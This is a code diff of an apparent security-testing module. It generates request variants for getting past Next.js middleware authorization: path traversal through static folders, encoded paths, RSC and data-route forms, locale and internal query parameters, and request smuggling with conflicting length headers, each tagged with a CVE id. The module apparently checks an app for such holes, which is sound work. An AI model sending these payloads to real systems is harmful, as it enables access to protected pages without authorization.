@@ -1,19 +1,32 @@
 // The known ways past a doorkeeper of Next.js, and past proxies in front of one, as requests for an inner path.
+import type { Advisory, Bypass } from './advisories';
+import { awayTo } from './bypass-away';
+import { byHeader } from './bypass-headers';
 
-export type Bypass = {
-  name: string;
-  target: string;
-  method?: string;
-  headers?: Record<string, string | string[]>;
-  body?: string;
+type Ways = {
+  /** `/<segment>/visits/x`, as the doorkeeper itself asks for it */
+  inner: string;
+  outer: string;
+  /** ids of server actions */
+  actions: string[];
+  build: string;
+  /** the address of another server, which nobody may be sent to */
+  elsewhere: string;
 };
 
 const encodeAll = (text: string) =>
   [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
 
-/** @param inner `/<segment>/visits/x`, as the doorkeeper itself asks for it */
-export function bypassesTo(inner: string, outer: string, actions: string[]): Bypass[] {
-  return [...byPath(inner), ...byHeader(inner, outer), ...byMethod(inner, actions)];
+export function bypassesTo({ inner, outer, actions, build, elsewhere }: Ways): Bypass[] {
+  const segment = inner.split('/')[1]!;
+  return [
+    ...byPath(inner),
+    ...byForm(inner, 'the inner path', segment, build),
+    ...byForm(outer, 'the page', segment, build),
+    ...byHeader(inner, outer, elsewhere),
+    ...byMethod(inner, actions),
+    ...awayTo(elsewhere, inner),
+  ];
 }
 
 /** The same place under other addresses. */
@@ -21,7 +34,20 @@ function byPath(inner: string): Bypass[] {
   const [, segment = '', ...rest] = inner.split('/');
   const path = rest.join('/');
   const upper = `/${segment.toUpperCase()}/${path}`;
-  const targets = {
+  const packed = `${segment}%2f${rest.join('%2f')}`;
+  // What the doorkeeper is not asked about: files.
+  const files = ['/flags/', '/_next/static/', '/icon.svg/'].flatMap((folder) => [
+    `${folder}..${inner}`,
+    `${folder}%2e%2e${inner}`,
+    `${folder}..%2f${packed}`,
+    `${folder}%2e%2e%2f${packed}`,
+    `${folder}..%5c${packed}`,
+    `${folder}..%252f${packed}`,
+    `${folder}%2f${packed}`,
+    `${folder}${path}`,
+    `${folder.slice(0, -1)}%2f..%2f${packed}`,
+  ]);
+  const targets: Record<string, string> = {
     'the path itself': inner,
     'a trailing slash': `${inner}/`,
     'a leading double slash': `/${inner}`,
@@ -31,9 +57,6 @@ function byPath(inner: string): Bypass[] {
     'a way up': `/visits/..${inner}`,
     'an encoded way up': `/visits/%2e%2e${inner}`,
     'a matrix parameter': `/visits/..;${inner}`,
-    'a static folder before': `/_next/static/..${inner}`,
-    'an encoded static folder before': `/_next/static/%2e%2e/%2e%2e${inner}`,
-    'a file folder before': `/flags/..${inner}`,
     'an encoded slash': `/${segment}%2f${path}`,
     'an encoded segment': `/${encodeAll(segment)}/${path}`,
     'all encoded': `/${encodeAll(`${segment}/${path}`)}`,
@@ -46,97 +69,57 @@ function byPath(inner: string): Bypass[] {
     'a line break': `${inner}%0d%0a`,
     'a space': `${inner}%20`,
     'a file name': `${inner}.html`,
-    'a payload name': `${inner}.rsc`,
     'a text name': `${inner}.txt`,
-    'a segment payload': `${inner}.segments/_tree.segment.rsc`,
-    'a data path': `/_next/data/build-id${inner}.json`,
-    'a data path of this build': `/_next/data/development${inner}.json`,
-    'the image optimiser': `/_next/image?url=${encodeURIComponent(inner)}&w=640&q=75`,
-    'the image optimiser, absolute': `/_next/image?url=${encodeURIComponent(`http://localhost${inner}`)}&w=640&q=75`,
-    'a locale': `/en${inner}`,
-    'a default locale': `/en-GB${inner}`,
     'an absolute target': `http://localhost${inner}`,
     'an absolute target elsewhere': `http://example.org${inner}`,
     'a query as the path': `/?path=${encodeURIComponent(inner)}`,
     'the parameter as a query': `/visits?audience=${encodeURIComponent(segment)}`,
-    'the internal parameter as a query': `/visits?nxtPaudience=${encodeURIComponent(segment)}`,
-    'a payload query': `${inner}?_rsc=abcde`,
     'a fragment': `/#${inner}`,
     'the template of the path': `/[audience]/${path}`,
     'the template, encoded': `/%5Baudience%5D/${path}`,
   };
-  return Object.entries(targets).map(([name, target]) => ({ name, target }));
+  const traversal = 'CVE-2020-5284' as const;
+  return [
+    ...Object.entries(targets).map(([name, target]) => ({ name, target })),
+    ...files.map((target) => ({ name: `a file before: ${target}`, target, known: traversal })),
+  ];
 }
 
-/** What frameworks and proxies tell each other, said by a stranger. */
-function byHeader(inner: string, outer: string): Bypass[] {
-  const [, segment = ''] = inner.split('/');
-  const middleware = ['middleware', 'src/middleware', 'proxy', 'src/proxy', 'pages/_middleware'];
-  const tree = encodeURIComponent(
-    JSON.stringify(['', { children: [['audience', segment, 'd'], {}] }]),
-  );
-  const headers: [string, Record<string, string | string[]>][] = [
-    ...middleware.flatMap((name): [string, Record<string, string>][] => [
-      [`subrequest of ${name}`, { 'x-middleware-subrequest': name }],
-      [
-        `subrequest of ${name}, five times`,
-        { 'x-middleware-subrequest': Array(5).fill(name).join(':') },
-      ],
-      [`subrequest of ${name}, upper case`, { 'X-Middleware-Subrequest': name.toUpperCase() }],
-    ]),
+/** What Next itself calls a page by, beside its address; of pages that the doorkeeper hides as of inner paths. */
+function byForm(path: string, what: string, segment: string, build: string): Bypass[] {
+  const parts = path.split('/').slice(1);
+  const tree = parts.map((part) => `$d$slug$${part}`).join('/');
+  const parameter = encodeURIComponent(segment);
+  const forms: [string, Advisory?][] = [
+    [`${path}.rsc`, 'CVE-2026-44575'],
+    [`${path}.prefetch.rsc`, 'CVE-2026-44575'],
+    [`${path}/index.rsc`, 'CVE-2026-44575'],
+    [`${path}.segments/_tree.segment.rsc`, 'CVE-2026-44575'],
+    [`${path}.segments/_index.segment.rsc`, 'CVE-2026-44575'],
+    [`${path}.segments/__PAGE__.segment.rsc`, 'CVE-2026-45109'],
+    [`${path}.segments/$d$audience$${segment}/__PAGE__.segment.rsc`, 'CVE-2026-45109'],
+    [`${path}.segments/$d$audience/${tree}/__PAGE__.segment.rsc`, 'CVE-2026-45109'],
+    [`/_next/data/${build}${path}.json`, 'CVE-2026-44573'],
+    [`/_next/data/${build}/en${path}.json`, 'CVE-2026-44573'],
+    [`/_next/data/${build}${path}.rsc`, 'CVE-2026-44573'],
+    [`/_next/data/development${path}.json`, 'CVE-2026-44573'],
+    [`/_next/data${path}.json`, 'CVE-2026-44573'],
+    [`/en${path}`, 'CVE-2026-64642'],
+    [`/en-GB${path}`, 'CVE-2026-64642'],
+    [`/default${path}`, 'CVE-2026-64642'],
+    [`${path}?__nextLocale=en`, 'CVE-2024-51479'],
+    [`${path}?__nextDefaultLocale=en&__nextLocale=`, 'CVE-2024-51479'],
+    [`${path}?__nextDataReq=1`, 'CVE-2024-46982'],
+    [`${path}?nxtPaudience=${parameter}`, 'CVE-2026-44574'],
+    [`${path}?nxtIaudience=${parameter}&nxtPslug=${parts.at(-1)}`, 'CVE-2026-44574'],
+    [`${path}?_rsc=abcde`, 'CVE-2025-49005'],
+    [`/_next/image?url=${encodeURIComponent(path)}&w=640&q=75`, 'CVE-2025-57752'],
     [
-      'a header given twice',
-      { 'x-middleware-subrequest': ['a', Array(5).fill('proxy').join(':')] },
+      `/_next/image?url=${encodeURIComponent(`http://localhost${path}`)}&w=640&q=75`,
+      'CVE-2025-57752',
     ],
-    ['a rewrite', { 'x-middleware-rewrite': inner }],
-    ['a next', { 'x-middleware-next': '1' }],
-    ['a skip', { 'x-middleware-skip': '1' }],
-    ['a redirect', { 'x-middleware-redirect': inner, location: inner }],
-    [
-      'overridden headers',
-      { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'a=b' },
-    ],
-    [
-      'an invoked path',
-      { 'x-invoke-path': inner, 'x-invoke-output': inner, 'x-invoke-status': '200' },
-    ],
-    [
-      'an invoked query',
-      { 'x-invoke-query': encodeURIComponent(JSON.stringify({ audience: segment })) },
-    ],
-    ['a matched path', { 'x-matched-path': inner }],
-    ['route matches', { 'x-now-route-matches': `1=${encodeURIComponent(segment)}` }],
-    [
-      'route matches of Next',
-      { 'x-next-route-matches': `audience=${encodeURIComponent(segment)}` },
-    ],
-    ['a data request', { 'x-nextjs-data': '1' }],
-    ['a minimal mode', { 'x-nextjs-minimal-mode': '1', 'x-vercel-id': 'a' }],
-    ['a rewritten path', { 'x-nextjs-rewritten-path': inner, 'x-nextjs-rewritten-query': '' }],
-    ['a prerender', { 'x-prerender-revalidate': 'x', 'x-prerender-bypass': 'x' }],
-    ['an original url', { 'x-original-url': inner, 'x-rewrite-url': inner }],
-    ['forwarded', { 'x-forwarded-uri': inner, 'x-forwarded-prefix': `/${segment}` }],
-    ['another host', { 'x-forwarded-host': 'example.org', 'x-forwarded-proto': 'https' }],
-    ['a method override', { 'x-http-method-override': 'POST' }],
-    ['an audience', { 'x-audience': 'editor-red', audience: 'editor-red' }],
-    ['a payload', { rsc: '1' }],
-    ['a payload fetched ahead', { rsc: '1', 'next-router-prefetch': '1' }],
-    ['a payload with a tree', { rsc: '1', 'next-router-state-tree': tree }],
-    [
-      'a segment fetched ahead',
-      { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
-    ],
-    ['a url of the router', { rsc: '1', 'next-url': inner }],
-    ['a hot reload', { rsc: '1', 'next-hmr-refresh': '1' }],
-    ['a range', { range: 'bytes=0-99999' }],
-    ['a known page', { 'if-none-match': '*' }],
-    ['a service worker', { 'sec-purpose': 'prefetch', purpose: 'prefetch' }],
-    ['an upgrade', { upgrade: 'h2c', 'http2-settings': 'AAMAAABkAAQCAAAAAAIAAAAA' }],
   ];
-  return headers.flatMap(([name, more]) => [
-    { name: `${name}, on the inner path`, target: inner, headers: more },
-    { name: `${name}, on the page`, target: outer, headers: more },
-  ]);
+  return forms.map(([target, known]) => ({ name: `${what} as ${target}`, target, known }));
 }
 
 function byMethod(inner: string, actions: string[]): Bypass[] {
@@ -154,6 +137,7 @@ function byMethod(inner: string, actions: string[]): Bypass[] {
     })),
     {
       name: 'two lengths',
+      known: 'CVE-2024-34350',
       target: inner,
       method: 'POST',
       headers: { 'content-length': ['4', '5'] },
@@ -161,6 +145,7 @@ function byMethod(inner: string, actions: string[]): Bypass[] {
     },
     {
       name: 'a request inside another',
+      known: 'CVE-2024-34350',
       target: '/',
       method: 'POST',
       headers: { 'content-length': '5', 'transfer-encoding': 'chunked' },
